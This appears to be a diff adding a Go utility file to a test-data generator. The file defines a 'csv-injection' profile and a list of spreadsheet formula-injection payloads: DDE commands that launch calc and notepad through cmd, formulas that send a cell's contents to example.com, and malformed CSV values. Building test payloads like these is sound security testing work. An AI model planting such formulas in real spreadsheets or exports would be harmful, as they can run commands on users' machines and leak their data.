@@ -0,0 +1,40 @@
+package utils
+
+// ContentCSVInjection is the content profile that seeds spreadsheet cells
+// with formula-injection payloads.
+const ContentCSVInjection = "csv-injection"
+
+// injectionPayloads are cell values that spreadsheet applications may run
+// as formulas or that break naive CSV handling: DDE commands, functions
+// that reach the network, leading =, +, - and @, quotes, separators and
+// embedded line breaks. They only launch a calculator or fetch
+// example.com.
+var injectionPayloads = []string{
+	`=cmd|' /C calc'!A0`,
+	`=cmd|' /C notepad'!'A1'`,
+	`@SUM(1+9)*cmd|' /C calc'!A0`,
+	`-2+3+cmd|' /C calc'!A0`,
+	`+1+1`,
+	`=1+1`,
+	`=SUM(A1:A2)`,
+	`=HYPERLINK("https://example.com/?leak="&A1,"Click me")`,
+	`=IMPORTXML(CONCAT("https://example.com/?v=",A1),"//a")`,
+	`=WEBSERVICE("https://example.com/")`,
+	`=DDE("cmd";"/C calc";"__DdeLink_60_870516294")`,
+	"\t=1+1",
+	"\r=1+1",
+	`"quoted" value`,
+	`a, b, c`,
+	"line one\nline two",
+	"line one\r\nline two",
+}
+
+// InjectionPayload returns a random formula-injection payload.
+func InjectionPayload(r *Rand) string {
+	return injectionPayloads[r.IntN(len(injectionPayloads))]
+}
+
+// InjectionPayloads returns all payloads InjectionPayload draws from.
+func InjectionPayloads() []string {
+	return append([]string(nil), injectionPayloads...)
+}